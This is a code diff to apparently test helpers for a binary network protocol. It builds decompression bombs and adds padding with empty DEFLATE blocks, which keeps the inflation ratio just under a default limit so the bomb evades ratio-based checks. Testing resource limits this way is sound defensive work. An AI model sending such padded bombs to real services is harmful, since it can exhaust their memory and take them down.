@@ -72,13 +72,31 @@ export function sized(bytes) {
   return Buffer.concat([vInt(bytes.length), bytes]);
 }
 
-/** Returns a body as compressed frames carry it. */
+/** An empty block of DEFLATE: five bytes that inflate to nothing. */
+const EMPTY_BLOCK = Buffer.from('000000ffff', 'hex');
+
+/** A little less than what the default limit on inflating allows. */
+const ALLOWED_RATIO = 240;
+
+/** Returns a body as compressed frames carry it, as small as can be. */
 export function deflated(body) {
   return Buffer.concat([DEFLATE_MAGIC, deflateRawSync(body, { level: constants.Z_BEST_COMPRESSION })]);
 }
 
+/** Returns a compressed body that inflates to no more times its size than the default limit allows: bytes that mean nothing are put in front. */
+export function deflatedWithinRatio(body) {
+  const small = deflated(body);
+  return Buffer.concat([DEFLATE_MAGIC, paddingFor(body.length, small.length), small.subarray(DEFLATE_MAGIC.length)]);
+}
+
+/** Returns blocks that inflate to nothing, as many as keep a stream within the default limit. */
+export function paddingFor(inflatedBytes, compressedBytes) {
+  const missing = Math.max(0, inflatedBytes / ALLOWED_RATIO - compressedBytes);
+  return Buffer.alloc(Math.ceil(missing / EMPTY_BLOCK.length) * EMPTY_BLOCK.length, EMPTY_BLOCK);
+}
+
 /**
- * Returns the compressed body of `head`, then `unit` repeated up to about `bytes` in all.
+ * Returns the compressed body of `head`, then `unit` repeated up to about `bytes` in all, within the ratio that the default limit allows.
  *
  * @param count how often the unit is repeated, for the count in front of it
  */
@@ -88,7 +106,7 @@ export function bombOf(unit, bytes, head) {
   const body = Buffer.alloc(start.length + count * unit.length);
   body.set(start);
   body.fill(unit, start.length);
-  return deflated(body);
+  return deflatedWithinRatio(body);
 }
 
 /** The body of a TCP handshake request of 2.19.0: no parent task, then the version in a byte array. */
